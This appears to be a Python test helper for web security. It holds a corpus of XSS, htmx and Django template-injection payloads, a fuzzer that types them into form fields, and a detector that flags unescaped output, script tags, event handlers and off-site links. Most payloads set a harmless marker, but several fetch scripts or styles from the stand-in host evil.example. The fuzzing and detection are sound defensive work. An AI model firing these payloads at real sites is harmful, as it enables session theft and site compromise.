"""What somebody types who wants a page to run it, and how one tells from a page that it would.

Each string, were it to run, sets `window.__xss`, or asks evil.example for something.
Ways are those of the OWASP filter evasion cheat sheet, of mutation XSS (Heiderich 2013; DOMPurify's
tests) and of what htmx and Django's templates would take for instructions.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from lxml import etree

CORPUS: tuple[str, ...] = (
    "<script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<ScRiPt >window.__xss=1</sCrIpT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script\x09>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</select></option><script>window.__xss=1</script>",
    "</style></svg><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script><!--",
    "]]><script>window.__xss=1</script><![CDATA[",
    "<img src=x onerror=window.__xss=1>",
    '"><img src=x onerror="window.__xss=1">',
    "' onerror='window.__xss=1' src='x",
    '" autofocus onfocus="window.__xss=1" x="',
    "' autofocus onfocus='window.__xss=1' x='",
    "x onmouseover=window.__xss=1 autofocus onfocus=window.__xss=1",
    "` onmouseover=`window.__xss=1`",
    "<img src=//evil.example/pixel.png>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<marquee onstart=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text y=9>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='window.__xss=1'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=window.__xss=1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
    '<noscript><p title="</noscript><img src onerror=window.__xss=1>">',
    "<template><script>window.__xss=1</script></template>",
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "java\tscript:window.__xss=1",
    "vbscript:window.__xss=1",
    "data:text/html,<script>parent.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
    '<a href="javascript:window.__xss=1" id=main>x</a>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<iframe src=javascript:parent.__xss=1></iframe>",
    '<object data="javascript:window.__xss=1"></object>',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x.png)">x</p>',
    '<p hx-get="/" hx-trigger="load" hx-on::after-request="window.__xss=1">x</p>',
    '" hx-get="//evil.example/" hx-trigger="load" hx-on:htmx:load="window.__xss=1',
    "<button hx-get=/ hx-trigger=load hx-vals='js:{x: window.__xss=1}'>x</button>",
    '{{ visit.request.META }}{{ "zqx"|add:"jvk" }}',
    '{% load static %}{% include "console/page.html" %}{% debug %}',
    "{{constructor.constructor('window.__xss=1')()}}",
    "&LT;script&GT;window.__xss=1&LT;/script&GT;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "＜script＞window.__xss=1＜/script＞",
    "\u202e<script>window.__xss=1</script>\u202c",
    "<\u200bscript>window.__xss=1</script>",
    "';window.__xss=1;//",
    "\\';window.__xss=1;//",
)
_MARKS = re.compile("[<>\"'&]")
_EVALUATED = "zqxjvk"  # what a template engine would make of the corpus
_OWN_SCRIPTS = ("/static/",)
_NEVER = {"iframe", "object", "embed", "base", "style", "marquee", "math", "template"}
_OWN_FRAME = {"class", "title", "src"}  # of the form as on a phone
_LEADS = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc")


@dataclass
class Hostile:
    """Somebody who types from the corpus wherever something is typed: now here, now there in it."""

    next: int = 0

    def __call__(self, text: str, longest: int, without: str = "") -> str:
        """Return as many strings as a field takes, up to four, beginning where the last ended."""
        said = ""
        for _ in range(len(CORPUS)):
            one = CORPUS[self.next % len(CORPUS)]
            if len(said) + len(one) + 1 > longest or said.count("\u00a0") == 4:
                if said:
                    break
                self.next += 1
                continue
            self.next += 1
            if not set(without) & set(one):
                said += f"{one}\u00a0"
        return said.rstrip("\u00a0")


def breaks(html: str) -> Iterator[str]:
    """Yield what in a page comes from the corpus and is more than text."""
    for one in CORPUS:
        if _MARKS.search(one) and one in html:
            yield f"unescaped: {one}"
    if _EVALUATED in html:
        yield "a template was evaluated"
    for element in etree.HTML(html).iter(etree.Element):
        yield from _runs(element)


def _runs(element: etree._Element) -> Iterator[str]:
    tag, attributes = str(element.tag), {str(k): str(v) for k, v in element.attrib.items()}
    told = etree.tostring(element, encoding="unicode", with_tail=False)[:200]
    if tag == "script" and (element.text or not attributes["src"].startswith(_OWN_SCRIPTS)):
        yield f"script: {told}"
    if tag in _NEVER and not _is_own_frame(tag, attributes):
        yield f"element: {told}"
    for name, value in attributes.items():
        if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc"):
            yield f"attribute {name}: {told}"
        if name in _LEADS and re.match(r"\s*(//|[a-z]+\s*script:|data:)", value, re.IGNORECASE):
            yield f"leads elsewhere: {told}"


def _is_own_frame(tag: str, attributes: Mapping[str, str]) -> bool:
    is_framed = tag == "iframe" and set(attributes) == _OWN_FRAME
    return is_framed and re.match(r"/du-an/\d+/[\w/:.%?=&-]*\Z", attributes["src"]) is not None
